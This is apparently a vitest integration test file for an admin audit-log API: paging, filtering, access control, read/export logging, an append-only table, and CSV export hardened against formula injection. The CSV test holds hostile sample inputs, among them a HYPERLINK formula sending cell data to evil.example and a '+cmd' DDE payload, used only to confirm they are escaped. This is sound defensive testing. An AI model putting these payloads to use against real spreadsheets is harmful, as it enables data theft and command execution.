/**
 * `/api/v1/audit` and `/api/v1/audit/export`: admins read the log by filter and page, and export all of it
 * as JSON Lines or CSV that a spreadsheet cannot be tricked into running; reading it is itself recorded;
 * and the database refuses to change or remove an entry. On SQLite and on PostgreSQL.
 */
import { sql } from 'kysely'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { systemActor } from '../../src/core/access/actor.ts'
import { auditEntry } from '../../src/core/audit/audit.ts'
import type { AuditEntry } from '../../src/core/ports/repositories.ts'
import { expectProblem, startTestApi, type TestApi } from '../http/harness.ts'
import { auditEntries, call } from './support.ts'

const AUDIT = '/api/v1/audit'
const EXPORT = '/api/v1/audit/export'
const BULK = 1100 // more than two export pages of 500
const BASE = Date.UTC(2020, 0, 1)
const FIELDS = ['id', 'at', 'actor', 'userId', 'via', 'action', 'outcome', 'status', 'method', 'route', 'resourceType', 'resourceId', 'ip', 'reason', 'detail']

/** RFC 4180, strictly: quoted fields may hold commas, quotes (doubled) and line breaks; records end in CRLF. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let i = 0
  while (i < text.length) {
    let cell = ''
    if (text[i] === '"') {
      i++
      for (;;) {
        const q = text.indexOf('"', i)
        if (q < 0) throw new Error('unterminated quote')
        cell += text.slice(i, q)
        if (text[q + 1] === '"') {
          cell += '"'
          i = q + 2
        } else {
          i = q + 1
          break
        }
      }
    } else {
      const end = text.slice(i).search(/,|\r\n/)
      cell = end < 0 ? text.slice(i) : text.slice(i, i + end)
      if (/["\r\n]/.test(cell)) throw new Error(`bare quote or line break in an unquoted cell: ${JSON.stringify(cell)}`)
      i += cell.length
    }
    row.push(cell)
    if (text.startsWith('\r\n', i)) {
      rows.push(row)
      row = []
      i += 2
    } else if (text[i] === ',') i++
    else if (i < text.length) throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`)
  }
  if (row.length) throw new Error('last record does not end in CRLF')
  return rows
}

for (const dialect of ['sqlite', 'postgres'] as const) {
  describe(`audit log [${dialect}]`, () => {
    let api: TestApi
    let bulk: AuditEntry[]
    const someone = '01900000-0000-7000-8000-000000000001'
    beforeAll(async () => {
      api = await startTestApi(dialect)
      // Entries a second apart from 2020 on; every third denied; ten resources; a tenth by one user.
      bulk = Array.from({ length: BULK }, (_, i) =>
        auditEntry(systemActor('test'), 'test.bulk', i % 3 === 0 ? 'denied' : 'ok', { ip: '192.0.2.1', method: 'POST', route: '/test', reason: null }, { resourceType: 'bulk', resourceId: `r${i % 10}`, userId: i % 10 === 7 ? someone : null, detail: { i } }, BASE + i * 1000),
      )
      await api.ctx.store.transaction(async (repos) => {
        for (const e of bulk) await repos.audit.append(e)
      })
    })
    afterAll(async () => {
      await api?.close()
    })

    const get = (url: string, token = api.token.admin, headers: Record<string, string> = {}) => call(api, 'GET', url, token, undefined, headers)
    /** Every item of a list, following `next`. */
    async function all(query: string, limit = 500): Promise<Record<string, unknown>[]> {
      const items: Record<string, unknown>[] = []
      let url = `${AUDIT}?${query}&limit=${limit}`
      for (let pages = 0; pages < 100; pages++) {
        const res = await get(url)
        expect(res.statusCode, res.body).toBe(200)
        const body = res.json()
        items.push(...body.items)
        if (!body.next) return items
        url = `${AUDIT}?${query}&limit=${limit}&cursor=${body.next}`
      }
      throw new Error('too many pages')
    }

    it('lists newest first and pages without gaps or repeats', async () => {
      const items = await all('action=test.bulk', 200)
      expect(items.map((e) => e.id)).toEqual(bulk.map((e) => e.id).reverse())
      expect(items[0]).toEqual({ ...bulk.at(-1), at: new Date(bulk.at(-1)!.at).toISOString() })
      for (const item of items.slice(0, 5)) expect(Object.keys(item).sort()).toEqual([...FIELDS].sort())
    })

    it('filters by user, action, outcome, record, and time', async () => {
      const count = async (query: string) => (await all(query)).length
      expect(await count('action=test.bulk&outcome=denied')).toBe(Math.ceil(BULK / 3))
      expect(await count('resourceType=bulk&resourceId=r3')).toBe(BULK / 10)
      expect(await count(`userId=${someone}`)).toBe(BULK / 10)
      expect(await count(`userId=${someone}&outcome=denied&resourceId=r7`)).toBe(bulk.filter((e) => e.userId === someone && e.outcome === 'denied').length)
      const from = new Date(BASE + 100_000).toISOString()
      const to = new Date(BASE + 200_000).toISOString()
      const window = await all(`action=test.bulk&from=${from}&to=${to}`)
      expect(window.map((e) => (e.detail as { i: number }).i)).toEqual(Array.from({ length: 100 }, (_, k) => 199 - k))
      expect(await count('action=no.such.action')).toBe(0)
    })

    it.each([['outcome=maybe'], ['from=yesterday'], ['to=2020-01-01T00:00:60Z'], ['userId=not-a-uuid'], ['limit=0'], ['limit=501'], ['cursor=garbage'], ['actor=system'], ['action=']])(
      'refuses the query %s',
      async (query) => {
        expectProblem(await get(`${AUDIT}?${query}`), 400)
      },
    )

    it('records each reading of the log; refuses everyone but admins, and records that too', async () => {
      const admin = await api.user(['admin'])
      expect((await get(`${AUDIT}?action=test.bulk&limit=3`, admin.token)).statusCode).toBe(200)
      const [read] = await auditEntries(api, { action: 'audit.read', userId: admin.id })
      expect(read).toMatchObject({ outcome: 'ok', method: 'GET', route: '/api/v1/audit', resourceType: 'audit', detail: { filters: { action: 'test.bulk' }, count: 3 } })

      const editor = await api.user(['editor'])
      for (const url of [AUDIT, EXPORT]) expectProblem(await get(url, editor.token), 403)
      for (const role of ['researcher', 'legal', 'partner'] as const) expectProblem(await get(AUDIT, api.token[role]), 403)
      expectProblem(await get(AUDIT, ''), 401)
      const denied = await auditEntries(api, { userId: editor.id })
      expect(denied.map((e) => `${e.action} ${e.outcome} ${e.status}`)).toEqual(['audit.export denied 403', 'audit.read denied 403'])
    })

    it('exports every matching entry as JSON Lines, and records the export without listing it', async () => {
      const res = await get(`${EXPORT}?action=test.bulk`)
      expect(res.statusCode).toBe(200)
      expect(res.headers['content-type']).toMatch(/^application\/x-ndjson/)
      expect(res.headers['content-disposition']).toMatch(/^attachment; filename="louder-audit-.*\.jsonl"$/)
      expect(res.body.endsWith('\n')).toBe(true)
      const lines = res.body.trimEnd().split('\n').map((l) => JSON.parse(l))
      expect(lines.map((e) => e.id)).toEqual(bulk.map((e) => e.id).reverse())
      expect(lines.at(-1)).toEqual({ ...bulk[0], at: new Date(BASE).toISOString() })

      const everything = await get(EXPORT)
      const [exported] = await auditEntries(api, { action: 'audit.export' })
      expect(exported).toMatchObject({ outcome: 'ok', detail: { filters: {}, format: 'jsonl' } })
      const ids = everything.body.trimEnd().split('\n').map((l) => JSON.parse(l).id)
      expect(ids).not.toContain(exported!.id)
      expect(ids.length).toBeGreaterThan(BULK)
      expect(new Set(ids).size).toBe(ids.length)
    })

    it('exports CSV (RFC 4180) in which no cell can start a formula', async () => {
      // Text an attacker controls reaches the log: the reason header and a path parameter of a refused call.
      const hostile = [
        ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '=SUM(1+1)'],
        ['+cmd|\' /C calc\'!A0', '@SUM(A1)'],
        ['-2+3, with "quotes"\r\nand a line break', '-1'],
      ]
      for (const [reason, id] of hostile) expectProblem(await get(`/api/v1/users/${encodeURIComponent(id!)}`, api.token.researcher, { 'louder-reason': reason!.replace(/\r\n/g, ' ') }), 403)
      // Refusals are recorded by the hook that runs after the answer is sent: wait until all three are in.
      for (let i = 0; i < 100 && (await api.ctx.store.repos.audit.list({ limit: 10, resourceType: 'user', outcome: 'denied' })).length < 3; i++) await new Promise((r) => setTimeout(r, 20))

      const res = await get(`${EXPORT}?format=csv&resourceType=user&outcome=denied`)
      expect(res.statusCode).toBe(200)
      expect(res.headers['content-type']).toMatch(/^text\/csv/)
      expect(res.headers['content-disposition']).toMatch(/\.csv"$/)
      const [header, ...rows] = parseCsv(res.body)
      expect(header).toEqual(FIELDS)
      expect(rows).toHaveLength(3)
      for (const row of rows) {
        expect(row).toHaveLength(FIELDS.length)
        for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
      }
      const column = (name: string) => rows.map((r) => r[FIELDS.indexOf(name)])
      expect(column('resourceId')).toEqual(hostile.map(([, id]) => `'${id}`).reverse())
      expect(column('reason')).toEqual(hostile.map(([reason]) => `'${reason!.replace(/\r\n/g, ' ')}`).reverse())
      expect(column('action')).toEqual(['user.read', 'user.read', 'user.read'])

      const bulkCsv = parseCsv((await get(`${EXPORT}?format=csv&action=test.bulk`)).body)
      expect(bulkCsv).toHaveLength(BULK + 1)
      expect(bulkCsv[1]![FIELDS.indexOf('detail')]).toBe(`{"i":${BULK - 1}}`)
      expect(bulkCsv[1]![FIELDS.indexOf('at')]).toBe(new Date(BASE + (BULK - 1) * 1000).toISOString())
      const [exported] = await auditEntries(api, { action: 'audit.export' })
      expect(exported!.detail).toMatchObject({ format: 'csv', filters: { action: 'test.bulk' } })
    })

    it('cannot be changed or emptied, even with direct database access', async () => {
      const db = api.ctx.db.kysely
      const before = await auditEntries(api, { action: 'test.bulk' })
      await expect(db.updateTable('audit_log').set({ outcome: 'ok' }).where('action', '=', 'test.bulk').execute()).rejects.toThrow(/append-only/)
      await expect(db.updateTable('audit_log').set({ reason: 'rewritten' }).where('id', '=', bulk[0]!.id).execute()).rejects.toThrow(/append-only/)
      await expect(db.deleteFrom('audit_log').where('id', '=', bulk[0]!.id).execute()).rejects.toThrow(/append-only/)
      await expect(db.deleteFrom('audit_log').execute()).rejects.toThrow(/append-only/)
      if (dialect === 'postgres') await expect(sql`truncate audit_log`.execute(db)).rejects.toThrow(/append-only/)
      expect(await auditEntries(api, { action: 'test.bulk' })).toEqual(before)
    })
  })
}
